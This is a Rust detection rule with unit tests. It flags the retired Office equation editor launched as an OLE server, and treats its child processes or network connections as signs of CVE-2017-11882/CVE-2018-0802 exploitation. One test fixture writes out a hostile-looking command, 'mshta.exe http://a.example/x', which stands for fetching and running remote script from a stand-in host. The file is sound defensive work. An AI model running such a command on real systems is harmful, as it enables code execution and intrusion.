//! # IPC-DDE-007: Legacy OLE server started by a document
//!
//! ## What it detects
//! The equation editor started by DcomLaunch as an OLE server; a child process or a connection of it is critical.
//!
//! ## Why it matters
//! The equation editor runs without Office's protections and was removed in 2018 because of exploited vulnerabilities:
//! a document that still uses it is an exploit or very old, and the child process is the payload.
//!
//! ## Telemetry
//! Sysmon 1 and 3, Security 4688.
//!
//! ## False positives
//! None on patched Office: the component no longer exists.
//!
//! ## References
//! ATT&CK T1559.001, T1203; DET0504 (AN1393). CVE-2017-11882, CVE-2018-0802 (patch Office).

use backchannel_events::{
    Activity, ActivityKind, Confidence, Indicators, Mechanism, ProcessEvent, Reasons, Severity, Source,
};

use crate::{Actor, Analytic, Context, Evidence, Family, predicates};

const CLASS: &str = "Equation.3";

pub const ANALYTIC: Analytic = Analytic {
    id: "IPC-DDE-007",
    title: "Legacy OLE server started by a document",
    family: Family::DynamicDataExchange,
    techniques: &["T1559.001", "T1203"],
    attack_analytics: &["AN1393"],
    severity: Severity::High,
    on: &[ActivityKind::ProcessStart, ActivityKind::NetworkFlow],
    telemetry: &[Source::Sysmon, Source::Security],
    evaluate,
    ..Analytic::DEFAULTS
};

fn evaluate(context: &Context<'_>, event: &ProcessEvent<'_>) -> Option<Evidence> {
    let (subject, parent) = (context.subject(), context.parent());
    let evidence = match &event.activity {
        Activity::ProcessStart if is_editor(subject) => {
            if !predicates::started_by_dcom_launch(subject, parent) && !parent.is(&["svchost.exe"]) {
                return None;
            }
            let text = format!(
                "A document started the equation editor ({}), which patched Office no longer has.",
                subject.name()
            );
            Evidence::new(Severity::High, Confidence::High, text).server(subject)
        }
        Activity::ProcessStart if is_editor(parent) => {
            if subject.is(&["werfault.exe", "dw20.exe", "conhost.exe"]) {
                return None;
            }
            let text = format!("The equation editor started {}: its exploited flaws are in use.", subject.name());
            Evidence::new(Severity::Critical, Confidence::High, text).client(parent).server(subject)
        }
        Activity::NetworkFlow(flow) if flow.outbound && is_editor(subject) => {
            let text = format!("The equation editor connected to {}: its flaws are in use.", flow.remote.address);
            Evidence::new(Severity::Critical, Confidence::High, text).client(subject)
        }
        _ => return None,
    };
    Some(
        evidence.reasons(Reasons::UNKNOWN_BINARY).indicators(Indicators::UNEXPECTED_USE).channel(Mechanism::Com, CLASS),
    )
}

fn is_editor(actor: Actor<'_>) -> bool {
    actor.is(&["eqnedt32.exe"])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::*;

    const EDITOR: &str = r"C:\Program Files\Common Files\Microsoft Shared\EQUATION\EQNEDT32.EXE";

    #[test]
    fn the_editor_as_a_server_fires() {
        let events = [start(0, EDITOR, "EQNEDT32.EXE -Embedding")
            .by(r"C:\Windows\System32\svchost.exe", "svchost.exe -k DcomLaunch")];
        check(&ANALYTIC, &events, Some((Severity::High, Confidence::High)));
    }

    #[test]
    fn its_child_is_critical() {
        let events = [start(0, r"C:\Windows\System32\mshta.exe", "mshta.exe http://a.example/x")
            .by(EDITOR, "EQNEDT32.EXE -Embedding")];
        check(&ANALYTIC, &events, Some((Severity::Critical, Confidence::High)));
    }

    #[test]
    fn error_reporting_for_it_is_quiet() {
        let events = [start(0, r"C:\Windows\System32\WerFault.exe", "WerFault.exe -u").by(EDITOR, "EQNEDT32.EXE")];
        check(&ANALYTIC, &events, None);
    }

    #[test]
    fn other_servers_are_quiet() {
        let events = [start(0, r"C:\Program Files\A\server.exe", "server.exe -Embedding")
            .by(r"C:\Windows\System32\svchost.exe", "svchost.exe -k DcomLaunch")];
        check(&ANALYTIC, &events, None);
    }
}
